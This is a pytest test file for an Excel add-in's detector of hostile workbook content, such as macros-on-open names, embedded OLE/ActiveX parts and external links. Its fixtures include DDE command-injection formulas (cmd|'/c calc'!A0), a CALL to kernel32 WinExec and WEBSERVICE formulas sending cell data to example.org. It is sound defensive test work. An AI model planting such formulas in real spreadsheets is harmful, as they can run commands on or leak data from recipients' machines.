"""What a received file carries beside answers is reported, and no copy of active content is made."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from tests.workbook_read.forms import write_form
from tests.workbook_read.packages import Parts, replace_text, rewrite, set_cell_xml, sheet_part
from tests.workbook_read.test_answers import GIVEN, at
from xlsaddin.errors import WorkbookError
from xlsaddin.workbook.hostile import inspect_package
from xlsaddin.workbook.opening import open_package
from xlsaddin.workbook.patch.apply import apply_changes
from xlsaddin.workbook.plan import Changes
from xlsaddin.workbook.read.book import read_workbook

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.fixture
def form(tmp_path: Path) -> Path:
    return write_form(tmp_path / "申告書.xlsx", GIVEN)


def found(form: Path) -> list[tuple[str, str, str]]:
    """Return code, sheet and cell of what is reported, the same through both ways."""
    inspected = inspect_package(open_package(form))
    assert [f for f in read_workbook(form).findings if f.code.startswith("RS-HOSTILE")] == list(inspected)
    return [(finding.code, finding.location.sheet, finding.location.cell) for finding in inspected]


def not_passed_on(form: Path) -> bool:
    copy = form.with_name("copy.xlsx")
    try:
        apply_changes(form, Changes(), copy)
    except WorkbookError as refused:
        return refused.code == "RS-FILE-016" and not copy.exists()
    return False


def answer(formula: str) -> Callable[[Parts], None]:
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;")
    xml = f'<c r="{at("school")}" t="str"><f>{escaped}</f><v>x</v></c>'
    return lambda parts: set_cell_xml(parts, sheet_part(parts, "学歴"), at("school"), xml)


def add_part(part: str, content: bytes = b"x", relation: str = "") -> Callable[[Parts], None]:
    def apply(parts: Parts) -> None:
        parts[part] = content
        if relation:
            node = f'<Relationship Id="rId88" Type="{RELATION}/{relation}" Target="/{part}"/></Relationships>'
            replace_text(parts, "xl/_rels/workbook.xml.rels", "</Relationships>", node)

    return apply


def add_sheet(name: str, state: str = "visible") -> Callable[[Parts], None]:
    def apply(parts: Parts) -> None:
        add_part(
            "xl/worksheets/sheet88.xml", f'<worksheet xmlns="{MAIN}"><sheetData/></worksheet>'.encode(), "worksheet"
        )(parts)
        node = f'<sheet name="{name}" sheetId="88" state="{state}" r:id="rId88"/></sheets>'
        replace_text(parts, "xl/workbook.xml", "</sheets>", node)

    return apply


def add_name(node: str) -> Callable[[Parts], None]:
    return lambda parts: replace_text(parts, "xl/workbook.xml", "</definedNames>", f"{node}</definedNames>")


def external_link(content: str) -> Callable[[Parts], None]:
    xml = f'<externalLink xmlns="{MAIN}" xmlns:r="{RELATION}">{content}</externalLink>'
    return add_part("xl/externalLinks/externalLink1.xml", xml.encode(), "externalLink")


def test_plain_form_carries_nothing(form: Path) -> None:
    assert found(form) == []
    assert not not_passed_on(form)


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://example.org/?"&A1)',
        'webservice ("http://example.org")',
        "cmd|'/c calc'!A0",
        'IF(1,RTD("x",,"y"),0)',
        'CALL("kernel32","WinExec","JCJ","calc",0)',
        '_xlfn.IMAGE("https://example.org/a.png")',
    ],
)
def test_formula_that_calls_out(form: Path, formula: str) -> None:
    rewrite(form, answer(formula))
    assert found(form) == [("RS-HOSTILE-001", "学歴", at("school"))]
    assert not_passed_on(form)


def test_formula_that_links_out(form: Path) -> None:
    rewrite(form, answer('HYPERLINK("http://example.org/"&A1,"押す")'))
    assert found(form) == [("RS-HOSTILE-010", "学歴", at("school"))]


@pytest.mark.parametrize("formula", ["D10", 'HYPERLINK("#\'表紙\'!A1","表紙")', '"WEBSERVICE"&B1', "RECALL(1)"])
def test_harmless_formula(form: Path, formula: str) -> None:
    assert found(rewrite(form, answer(formula))) == []


def test_text_that_looks_like_an_attack_is_a_text(tmp_path: Path) -> None:
    attack = "=cmd|'/c calc'!A0"
    form = write_form(tmp_path / "f.xlsx", {"name": attack})
    assert found(form) == []
    assert read_workbook(form).answers.singles["name"].content == attack


def test_link_to_another_book(form: Path) -> None:
    rewrite(form, external_link("<externalBook/>"))
    assert found(form) == [("RS-HOSTILE-002", "", "")]
    assert not not_passed_on(form)


@pytest.mark.parametrize(
    "content", ['<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', '<oleLink r:id="rId1" progId="Word.Document"/>']
)
def test_link_that_starts_a_program(form: Path, content: str) -> None:
    rewrite(form, external_link(content))
    assert found(form) == [("RS-HOSTILE-001", "", "")]
    assert not_passed_on(form)


@pytest.mark.parametrize("name", ["xlwings.conf", "addin.CONF", "main.py"])
def test_configuration_sheet(form: Path, name: str) -> None:
    rewrite(form, add_sheet(name))
    assert found(form) == [("RS-HOSTILE-003", name, "")]
    assert not_passed_on(form)


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_hidden_sheet_that_is_not_ours(form: Path, state: str) -> None:
    assert found(rewrite(form, add_sheet("裏", state))) == [("RS-HOSTILE-005", "裏", "")]


@pytest.mark.parametrize(
    ("part", "code"),
    [
        ("xl/embeddings/oleObject1.bin", "RS-HOSTILE-004"),
        ("xl/embeddings/Microsoft_Word_Document.docx", "RS-HOSTILE-004"),
        ("xl/activeX/activeX1.bin", "RS-HOSTILE-004"),
        ("xl/connections.xml", "RS-HOSTILE-008"),
        ("xl/webextensions/webextension1.xml", "RS-HOSTILE-008"),
        ("customUI/customUI14.xml", "RS-HOSTILE-008"),
    ],
)
def test_active_parts(form: Path, part: str, code: str) -> None:
    rewrite(form, add_part(part, b"<x/>"))
    assert found(form) == [(code, "", "")]
    assert not_passed_on(form)


def test_query_inside_custom_xml(form: Path) -> None:
    query = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'.encode("utf-16")
    assert found(rewrite(form, add_part("customXml/item1.xml", query))) == [("RS-HOSTILE-008", "", "")]


def test_large_picture(form: Path) -> None:
    import random

    noise = random.Random(1).randbytes(6_000_000)
    assert found(rewrite(form, add_part("xl/media/image1.png", noise))) == [("RS-HOSTILE-007", "", "")]


@pytest.mark.parametrize(
    "node",
    [
        '<definedName name="Auto_Open">表紙!$A$1</definedName>',
        '<definedName name="_xlnm.Auto_Close" hidden="1">表紙!$A$1</definedName>',
        '<definedName name="x" xlm="1" function="1">表紙!$A$1</definedName>',
        "<definedName name=\"y\">cmd|'/c calc'!A0</definedName>",
        '<definedName name="z">WEBSERVICE("http://example.org")</definedName>',
    ],
)
def test_name_that_runs_something(form: Path, node: str) -> None:
    rewrite(form, add_name(node))
    assert found(form) == [("RS-HOSTILE-006", "", "")]
    assert not_passed_on(form)


def test_hidden_name(form: Path) -> None:
    assert found(rewrite(form, add_name('<definedName name="secret" hidden="1">表紙!$A$1</definedName>'))) == [
        ("RS-HOSTILE-009", "", "")
    ]


@pytest.mark.parametrize(
    "name",
    ["_xlnm._FilterDatabase", "_xlfn.SINGLE", "_xlpm.x", "Z_01234567_89AB_CDEF_0123_456789ABCDEF_.wvu.PrintArea"],
)
def test_hidden_names_excel_makes_by_itself(form: Path, name: str) -> None:
    assert found(rewrite(form, add_name(f'<definedName name="{name}" hidden="1">表紙!$A$1</definedName>'))) == []
